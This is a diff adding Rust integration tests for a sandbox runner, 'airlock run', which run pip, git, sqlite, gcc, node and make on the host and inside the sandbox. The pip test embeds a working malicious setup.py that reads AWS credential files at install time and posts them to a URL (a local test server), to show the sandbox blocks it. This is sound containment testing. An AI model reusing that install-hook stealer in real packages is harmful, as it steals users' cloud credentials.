@@ -1,0 +1,567 @@
+//! Real tools at work inside `airlock run`, for both launchers (root and uid 65534): pip
+//! installing a package whose setup script steals the caller's credentials, git, sqlite in WAL
+//! mode with a second writer, gcc, node with child processes, a parallel make.
+//!
+//! Every workload is one shell script run twice per launcher: on the host first, in a fresh
+//! directory with the sandbox's environment (the control: it shows what the tool prints when it
+//! works, and that the hostile setup script does read the credential and reach the server
+//! there), then inside, where the test asserts the same output and the same result files. A
+//! tool that could not start fails the test; none is skipped.
+
+mod common;
+
+use std::os::unix::fs::PermissionsExt;
+use std::path::Path;
+use std::process::Command;
+use std::time::Duration;
+
+use common::*;
+use serde_json::{Value, json};
+
+/// The task's PATH inside (src/spec.rs, `build_env`), given to the host control too; HOME and
+/// TMPDIR are the control's own directory, as they are scratch inside.
+const SANDBOX_PATH: &str = "/usr/local/bin:/usr/bin:/bin:/usr/local/sbin:/usr/sbin:/sbin";
+
+/// Each run's bound: the workloads take a few seconds at most, on a loaded 2-core VM.
+const LIMIT: Duration = Duration::from_secs(30);
+
+/// A file the workload starts with: its name in the working directory, its bytes.
+type Input<'a> = (&'a str, &'a [u8]);
+
+/// Fail unless each program exists on the host: the sandbox binds the host's /usr, so a tool
+/// missing here is missing inside too, and the test must say so rather than pass.
+fn require(programs: &[&str]) {
+    for p in programs {
+        assert!(
+            Path::new(p).exists(),
+            "{p} is not on this host: the workload tests need it (apt-get install the package \
+             that ships it)"
+        );
+    }
+}
+
+/// `sh -c SCRIPT` on the host as `who`, in a fresh directory of its own (owned by `who`)
+/// holding `inputs`, with the sandbox's environment plus `env` (which may set HOME); the
+/// directory is returned with the run, for its result files.
+fn on_host(
+    who: Launcher,
+    script: &str,
+    inputs: &[Input],
+    env: &[(&str, &str)],
+) -> (Run, tempfile::TempDir) {
+    let dir = tmpdir();
+    for (name, text) in inputs {
+        write_file(&dir.path().join(name), text, 0o644);
+    }
+    if who == Launcher::Unprivileged {
+        let st = Command::new("chown")
+            .args(["-R", "65534:65534"])
+            .arg(dir.path())
+            .status()
+            .unwrap();
+        assert!(st.success(), "chown -R 65534 {:?}: {st}", dir.path());
+    }
+    let mut c = host_command(who, "sh");
+    c.args(["-c", script])
+        .current_dir(dir.path())
+        .env_clear()
+        .env("PATH", SANDBOX_PATH)
+        .env("HOME", dir.path())
+        .env("TMPDIR", dir.path())
+        .env("LANG", "C.UTF-8")
+        .envs(env.iter().copied());
+    (run_bounded(c, None, LIMIT), dir)
+}
+
+/// `airlock run --json --timeout 20s --input NAME=PATH... FLAGS -- sh -c SCRIPT` as `who`, with
+/// `caller_env` set in airlock's own environment and the inputs written to a host directory
+/// first, and the run's report.
+fn inside(
+    who: Launcher,
+    script: &str,
+    inputs: &[Input],
+    flags: &[&str],
+    caller_env: &[(&str, &str)],
+) -> (Run, Value) {
+    let dir = tmpdir();
+    let specs: Vec<String> = inputs
+        .iter()
+        .map(|(name, text)| {
+            let path = write_file(&dir.path().join(name), text, 0o644);
+            format!("{name}={}", path.display())
+        })
+        .collect();
+    let mut args = vec!["run", "--json", "--timeout", "20s"];
+    for spec in &specs {
+        args.extend(["--input", spec.as_str()]);
+    }
+    args.extend_from_slice(flags);
+    args.extend(["--", "sh", "-c", script]);
+    let mut c = airlock(who, &args);
+    c.envs(caller_env.iter().copied());
+    let run = run_bounded(c, None, LIMIT);
+    let rep = run.report();
+    (run, rep)
+}
+
+/// A finished report that says the task exited 0 by itself.
+#[track_caller]
+fn assert_exited_0(rep: &Value, ctx: &str) {
+    assert_eq!(rep["exit_code"], json!(0), "{ctx}: {rep:#}");
+    assert_eq!(rep["signal"], Value::Null, "{ctx}: {rep:#}");
+    assert_eq!(rep["timed_out"], json!(false), "{ctx}: {rep:#}");
+    assert_eq!(rep["limit_hit"], Value::Null, "{ctx}: {rep:#}");
+}
+
+/// Run `script` on the host and inside, as each launcher: both must exit 0 with exactly
+/// `stdout`, nothing on stderr, and the result files `files` (name, text) in their working
+/// directory; inside, they come back in the report. Prints each run's time.
+fn assert_works_on_host_and_inside(
+    what: &str,
+    script: &str,
+    inputs: &[Input],
+    stdout_want: &str,
+    files: &[(&str, &str)],
+) {
+    for who in BOTH {
+        let ctx = format!("{what}, {who:?}");
+        let (host, dir) = on_host(who, script, inputs, &[]);
+        assert_eq!(host.code(), Some(0), "{ctx}, host control: {}", host.show());
+        assert_eq!(stdout(&host.out), stdout_want, "{ctx}, host control");
+        assert_eq!(stderr(&host.out), "", "{ctx}, host control");
+        for (name, text) in files {
+            let got = std::fs::read_to_string(dir.path().join(name))
+                .unwrap_or_else(|e| panic!("{ctx}, host control: {name}: {e}"));
+            assert_eq!(got, *text, "{ctx}, host control: {name}");
+        }
+
+        let (run, rep) = inside(who, script, inputs, &[], &[]);
+        assert_exited_0(&rep, &ctx);
+        assert_eq!(rep["stdout"], json!(stdout_want), "{ctx}: {rep:#}");
+        assert_eq!(rep["stderr"], json!(""), "{ctx}: {rep:#}");
+        for (name, text) in files {
+            assert_eq!(rep["files"][name], json!(text), "{ctx}: {name}: {rep:#}");
+        }
+        eprintln!(
+            "{ctx}: host {} ms, inside {} ms",
+            host.took.as_millis(),
+            run.took.as_millis()
+        );
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// 1. pip installs a package whose setup script steals the caller's credentials
+// ---------------------------------------------------------------------------------------------
+
+const PYTHON: &str = "/usr/bin/python3";
+
+/// The hostile package's setup.py. Before it calls setup() it reads the caller's
+/// ~/.aws/credentials, both through its own HOME and at the host path it is handed in
+/// CALLER_CREDENTIALS, posts what it read to EXFIL_URL, and writes what it saw to SETUP_SAW:
+/// `read PATH` or `not read PATH: ERRNO`, then `posted N bytes: STATUS` or `not posted:
+/// ERRNO`. pip runs setup.py twice (metadata, then the wheel): it steals once.
+const SETUP_PY: &str = r#"import errno, os, urllib.error, urllib.request
+from setuptools import setup
+
+def steal():
+    saw = os.environ['SETUP_SAW']
+    if os.path.exists(saw):
+        return
+    loot, lines = [], []
+    for path in [os.path.expanduser('~/.aws/credentials'), os.environ['CALLER_CREDENTIALS']]:
+        try:
+            with open(path) as f:
+                loot.append(f.read())
+            lines.append('read %s' % path)
+        except OSError as e:
+            lines.append('not read %s: %s' % (path, errno.errorcode[e.errno]))
+    data = ''.join(loot).encode()
+    try:
+        req = urllib.request.Request(os.environ['EXFIL_URL'], data=data)
+        with urllib.request.urlopen(req, timeout=3) as r:
+            lines.append('posted %d bytes: %d' % (len(data), r.status))
+    except urllib.error.URLError as e:
+        reason = e.reason
+        if isinstance(reason, OSError) and reason.errno in errno.errorcode:
+            reason = errno.errorcode[reason.errno]
+        lines.append('not posted: %s' % reason)
+    with open(saw, 'w') as f:
+        f.write(''.join(line + '\n' for line in lines))
+
+steal()
+setup(name='stealer', version='0.1', packages=['stealer'])
+"#;
+
+/// The workload: a virtual environment in the working directory (on the system's pip and
+/// setuptools: an ensurepip venv takes 4 s more per run), the sdist installed into it offline
+/// with setuptools as it is, then the installed package imported from it. setup.py runs in a
+/// build directory of pip's: SETUP_SAW names the result file by its full path.
+const PIP_SCRIPT: &str = r#"set -e
+export SETUP_SAW="$PWD/setup-saw.txt"
+/usr/bin/python3 -m venv --without-pip --system-site-packages venv
+venv/bin/python -m pip install --no-index --no-build-isolation --no-cache-dir stealer-0.1.tar.gz
+venv/bin/python -c 'import os, stealer; print(stealer.MARK, os.path.relpath(stealer.__file__))'
+"#;
+
+const AWS_KEY: &str = "AKIA-WORKLOADS-PIP-STEALER-5c1e";
+
+/// The bytes of stealer-0.1.tar.gz, an sdist (setup.py, PKG-INFO, the package) made with the
+/// host's tar.
+fn stealer_sdist() -> Vec<u8> {
+    let dir = tmpdir();
+    let tree = dir.path().join("stealer-0.1");
+    std::fs::create_dir_all(tree.join("stealer")).unwrap();
+    std::fs::write(tree.join("setup.py"), SETUP_PY).unwrap();
+    std::fs::write(
+        tree.join("PKG-INFO"),
+        "Metadata-Version: 1.0\nName: stealer\nVersion: 0.1\n",
+    )
+    .unwrap();
+    std::fs::write(
+        tree.join("stealer/__init__.py"),
+        "MARK = 'stealer-imported'\n",
+    )
+    .unwrap();
+    let st = Command::new("/usr/bin/tar")
+        .args(["-czf", "stealer-0.1.tar.gz", "stealer-0.1"])
+        .current_dir(dir.path())
+        .status()
+        .unwrap();
+    assert!(st.success(), "tar -czf stealer-0.1.tar.gz: {st}");
+    std::fs::read(dir.path().join("stealer-0.1.tar.gz")).unwrap()
+}
+
+/// pip said it installed stealer-0.1 and the import found it in the venv; returns the
+/// import's line.
+#[track_caller]
+fn assert_installed(text: &str, ctx: &str) -> String {
+    assert!(
+        text.lines()
+            .any(|l| l == "Successfully installed stealer-0.1"),
+        "{ctx}: pip did not say it installed stealer-0.1:\n{text}"
+    );
+    let imported = text.lines().last().unwrap_or("");
+    assert!(
+        imported.starts_with("stealer-imported venv/lib/python3.")
+            && imported.ends_with("/site-packages/stealer/__init__.py"),
+        "{ctx}: the package was not imported from the venv:\n{text}"
+    );
+    imported.to_string()
+}
+
+#[test]
+fn pip_installs_a_credential_stealing_sdist_that_reads_and_reaches_nothing() {
+    require(&[PYTHON, "/usr/bin/tar"]);
+    // The caller's home, not under /tmp: inside, /tmp is scratch, which would hide a path
+    // there for another reason than the boundary.
+    let home = tmpdir_in(Path::new("/var/tmp"));
+    let aws = home.path().join(".aws");
+    std::fs::create_dir(&aws).unwrap();
+    std::fs::set_permissions(&aws, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let creds = format!("[default]\naws_access_key_id = {AWS_KEY}\n");
+    let creds_path = write_file(&aws.join("credentials"), creds.as_bytes(), 0o644);
+    let creds_path = creds_path.to_str().unwrap();
+    let home_path = home.path().to_str().unwrap();
+    let sdist = stealer_sdist();
+    let inputs: [Input; 1] = [("stealer-0.1.tar.gz", &sdist)];
+    let server = Server::start(Duration::from_secs(120));
+    let caller_env = [
+        ("HOME", home_path),
+        ("CALLER_CREDENTIALS", creds_path),
+        ("EXFIL_URL", server.url.as_str()),
+    ];
+
+    for who in BOTH {
+        let ctx = format!("pip install, {who:?}");
+        // The control: on the host, with the caller's HOME, the same install steals.
+        let hits = server.hits();
+        let (host, dir) = on_host(who, PIP_SCRIPT, &inputs, &caller_env);
+        assert_eq!(host.code(), Some(0), "{ctx}, host control: {}", host.show());
+        let imported = assert_installed(&stdout(&host.out), &format!("{ctx}, host control"));
+        assert_eq!(
+            std::fs::read_to_string(dir.path().join("setup-saw.txt")).unwrap(),
+            format!(
+                "read {creds_path}\nread {creds_path}\nposted {} bytes: 200\n",
+                2 * creds.len()
+            ),
+            "{ctx}, host control: the setup script did not steal"
+        );
+        assert_eq!(server.hits(), hits + 1, "{ctx}, host control");
+        assert!(
+            server.received().contains(AWS_KEY),
+            "{ctx}, host control: the server did not get the key"
+        );
+
+        // Inside: the caller's HOME is set in airlock's own environment, and the host path of
+        // the credentials and the server's address are forwarded.
+        let hits = server.hits();
+        let received = server.received().len();
+        let forwarded = [
+            format!("CALLER_CREDENTIALS={creds_path}"),
+            format!("EXFIL_URL={}", server.url),
+        ];
+        let flags = ["--env", &forwarded[0], "--env", &forwarded[1]];
+        let (run, rep) = inside(who, PIP_SCRIPT, &inputs, &flags, &caller_env);
+        assert_exited_0(&rep, &ctx);
+        let out = rep["stdout"].as_str().unwrap();
+        assert_eq!(assert_installed(out, &ctx), imported, "{ctx}");
+        assert_eq!(rep["stderr"], json!(""), "{ctx}: {rep:#}");
+        assert_eq!(
+            rep["files"]["setup-saw.txt"],
+            json!(format!(
+                "not read /work/.aws/credentials: ENOENT\nnot read {creds_path}: ENOENT\n\
+                 not posted: ECONNREFUSED\n"
+            )),
+            "{ctx}: {rep:#}"
+        );
+        assert_eq!(server.hits(), hits, "{ctx}: the sandbox reached the host");
+        assert_eq!(server.received().len(), received, "{ctx}");
+        assert!(
+            !stdout(&run.out).contains(AWS_KEY) && !stderr(&run.out).contains(AWS_KEY),
+            "{ctx}: the key leaked: {}",
+            run.show()
+        );
+        eprintln!(
+            "{ctx}: host {} ms, inside {} ms",
+            host.took.as_millis(),
+            run.took.as_millis()
+        );
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// 2. git
+// ---------------------------------------------------------------------------------------------
+
+/// /usr/bin/git, Debian's: the host's newer /usr/local/bin/git is first on PATH inside too.
+const GIT: &str = "/usr/bin/git";
+
+/// Two commits with fixed names and dates, so their hashes are the same wherever they are
+/// made; then a check of every object, and a repack into one pack (lock files, renames).
+const GIT_SCRIPT: &str = r#"set -e
+export GIT_CONFIG_NOSYSTEM=1 GIT_AUTHOR_DATE='2000-01-01T00:00:00Z' GIT_COMMITTER_DATE='2000-01-01T00:00:00Z'
+g() { /usr/bin/git -c user.name=Airlock -c user.email=airlock@example.invalid -c init.defaultBranch=main "$@"; }
+g init -q repo
+cd repo
+echo one > a.txt
+g add a.txt
+g commit -q -m first
+echo two >> a.txt
+g commit -q -am second
+g log --format='%H %s'
+g rev-list --count HEAD
+g fsck --strict --no-progress
+g gc -q
+g count-objects -v | grep -E '^(count|in-pack):'
+g show HEAD:a.txt > ../a.txt
+"#;
+
+#[test]
+fn git_commits_logs_and_repacks_in_scratch() {
+    require(&[GIT]);
+    assert_works_on_host_and_inside(
+        "git",
+        GIT_SCRIPT,
+        &[],
+        "3a9f97038ff16560c3fc98b48937974d743e2ed7 second\n\
+         e39a4ed186cff4df584627132b2a22a9d3a7c40e first\n2\ncount: 0\nin-pack: 6\n",
+        &[("a.txt", "one\ntwo\n")],
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// 3. sqlite in WAL mode, with a second writer
+// ---------------------------------------------------------------------------------------------
+
+const SQLITE3: &str = "/usr/bin/sqlite3";
+
+/// A WAL database; a holder (its SQL fed through a FIFO) opens a write transaction and keeps
+/// it while a contender tries to write (refused: the lock is held) and a reader reads (the
+/// committed rows: WAL readers do not wait for the writer); after the commit the contender's
+/// write goes through. Without working locks the contended write would succeed.
+const SQLITE_SCRIPT: &str = r#"set -e
+/usr/bin/sqlite3 db "PRAGMA journal_mode=WAL; CREATE TABLE t(x); INSERT INTO t VALUES(1),(2);"
+mkfifo ctl
+/usr/bin/sqlite3 db < ctl > holder.txt 2>&1 &
+exec 3>ctl
+echo "BEGIN IMMEDIATE; INSERT INTO t VALUES(3); SELECT 'holder: in transaction';" >&3
+i=0
+until grep -q 'in transaction' holder.txt; do
+    i=$((i + 1)); [ $i -lt 100 ] || { echo 'the holder never began'; exit 1; }; sleep 0.05
+done
+echo "contender: $(/usr/bin/sqlite3 db 'INSERT INTO t VALUES(4);' 2>&1 || true)"
+echo "reader: $(/usr/bin/sqlite3 db 'SELECT group_concat(x) FROM t;')"
+ls db-wal db-shm
+echo "COMMIT;" >&3
+exec 3>&-
+wait
+/usr/bin/sqlite3 db "INSERT INTO t VALUES(4);"
+echo "after: $(/usr/bin/sqlite3 db 'SELECT group_concat(x) FROM t; PRAGMA journal_mode;' | tr '\n' ' ')"
+"#;
+
+#[test]
+fn sqlite_in_wal_mode_locks_out_a_second_writer_in_scratch() {
+    require(&[SQLITE3]);
+    assert_works_on_host_and_inside(
+        "sqlite3",
+        SQLITE_SCRIPT,
+        &[],
+        "wal\ncontender: Error: stepping, database is locked (5)\nreader: 1,2\ndb-shm\ndb-wal\n\
+         after: 1,2,3,4 wal \n",
+        &[("holder.txt", "holder: in transaction\n")],
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// 4. gcc
+// ---------------------------------------------------------------------------------------------
+
+const GCC: &str = "/usr/bin/gcc";
+
+/// A shared library built in scratch and found beside the program ($ORIGIN), libm, a child
+/// through fork and a pipe, a result file.
+const ANSWER_C: &str = r#"#include <math.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+int twice(int);
+
+int main(int argc, char **argv) {
+    int fds[2];
+    if (pipe(fds) != 0) return 1;
+    pid_t pid = fork();
+    if (pid < 0) return 2;
+    if (pid == 0) {
+        close(fds[0]);
+        dprintf(fds[1], "%d", twice(21));
+        _exit(7);
+    }
+    close(fds[1]);
+    char buf[16] = {0};
+    if (read(fds[0], buf, sizeof buf - 1) <= 0) return 3;
+    int status;
+    if (waitpid(pid, &status, 0) != pid) return 4;
+    FILE *f = fopen("answer.txt", "w");
+    if (!f) return 5;
+    double n = atof(buf) + argc - 1;
+    fprintf(f, "sqrt(%s * %s) = %.0f\n", buf, buf, sqrt(n * n));
+    fclose(f);
+    printf("child wrote %s and exited %d\n", buf, WEXITSTATUS(status));
+    return 0;
+}
+"#;
+
+const GCC_SCRIPT: &str = r#"set -e
+printf 'int twice(int n) { return 2 * n; }\n' > twice.c
+/usr/bin/gcc -O2 -Wall -Werror -fPIC -shared -o libtwice.so twice.c
+/usr/bin/gcc -O2 -Wall -Werror -o answer answer.c -L. -ltwice -lm -Wl,-rpath,'$ORIGIN'
+./answer
+"#;
+
+#[test]
+fn gcc_builds_a_program_and_its_shared_library_in_scratch_and_runs_it() {
+    require(&[GCC]);
+    assert_works_on_host_and_inside(
+        "gcc",
+        GCC_SCRIPT,
+        &[("answer.c", ANSWER_C.as_bytes())],
+        "child wrote 42 and exited 7\n",
+        &[("answer.txt", "sqrt(42 * 42) = 42\n")],
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// 5. node
+// ---------------------------------------------------------------------------------------------
+
+const NODE: &str = "/usr/bin/node";
+
+/// A file written, read back by a shell it runs (execFileSync), a node worker it forks (an IPC
+/// channel: a socket pair), then a spawned shell that appends to the file.
+const NODE_JS: &str = r#"const { execFileSync, fork, spawn } = require('child_process');
+const fs = require('fs');
+if (process.argv[2] === 'worker') {
+  process.on('message', (m) => process.send({ doubled: m.n * 2 }));
+} else {
+  fs.writeFileSync('note.txt', 'written by node\n');
+  console.log('sh read: ' + execFileSync('sh', ['-c', 'cat note.txt']).toString().trim());
+  const w = fork(__filename, ['worker']);
+  w.on('message', (m) => {
+    console.log('worker doubled 21: ' + m.doubled);
+    w.disconnect();
+  });
+  w.on('exit', (code) => {
+    console.log('worker exited ' + code);
+    spawn('sh', ['-c', 'echo spawned by node >> note.txt'], { stdio: 'inherit' })
+      .on('exit', (code) => console.log('spawned shell exited ' + code));
+  });
+  w.send({ n: 21 });
+}
+"#;
+
+#[test]
+fn node_writes_a_file_and_runs_child_processes_in_scratch() {
+    require(&[NODE]);
+    assert_works_on_host_and_inside(
+        "node",
+        "/usr/bin/node script.js",
+        &[("script.js", NODE_JS.as_bytes())],
+        "sh read: written by node\nworker doubled 21: 42\nworker exited 0\n\
+         spawned shell exited 0\n",
+        &[("note.txt", "written by node\nspawned by node\n")],
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// 6. make -j2
+// ---------------------------------------------------------------------------------------------
+
+const MAKE: &str = "/usr/bin/make";
+
+/// c and d each wait up to TICKS times 50 ms (3 s) for the other to start, so both finish only
+/// when two jobs run at once: the sub-make gets its second job from the top make's jobserver (a
+/// pipe handed down through MAKEFLAGS).
+const MAKEFILE: &str = r#"TICKS ?= 60
+all: sub
+	cat c d > all
+	cat all
+sub:
+	+$(MAKE) c d
+c d:
+	touch $@.started
+	i=0; until [ -e $(if $(filter c,$@),d,c).started ]; do \
+		i=$$((i + 1)); [ $$i -lt $(TICKS) ] || exit 1; sleep 0.05; done
+	echo "$@ ran beside $(if $(filter c,$@),d,c)" > $@
+"#;
+
+#[test]
+fn make_runs_two_jobs_at_once_through_its_jobserver_in_scratch() {
+    require(&[MAKE]);
+    let inputs: [Input; 1] = [("Makefile", MAKEFILE.as_bytes())];
+    let both = "c ran beside d\nd ran beside c\n";
+    assert_works_on_host_and_inside(
+        "make -j2",
+        "/usr/bin/make -s -j2",
+        &inputs,
+        both,
+        &[
+            ("all", both),
+            ("c", "c ran beside d\n"),
+            ("d", "d ran beside c\n"),
+        ],
+    );
+    // The control: one job at a time, c waits for d in vain (for 0.5 s) and the build fails.
+    for who in BOTH {
+        let (_, rep) = inside(who, "/usr/bin/make -s -j1 TICKS=10", &inputs, &[], &[]);
+        assert_eq!(rep["exit_code"], json!(2), "make -j1, {who:?}: {rep:#}");
+        assert_eq!(
+            rep["stderr"],
+            json!("make[1]: *** [Makefile:9: c] Error 1\nmake: *** [Makefile:6: sub] Error 2\n"),
+            "make -j1, {who:?}: {rep:#}"
+        );
+        assert_eq!(rep["files"], json!({"c.started": ""}), "make -j1, {who:?}");
+    }
+}
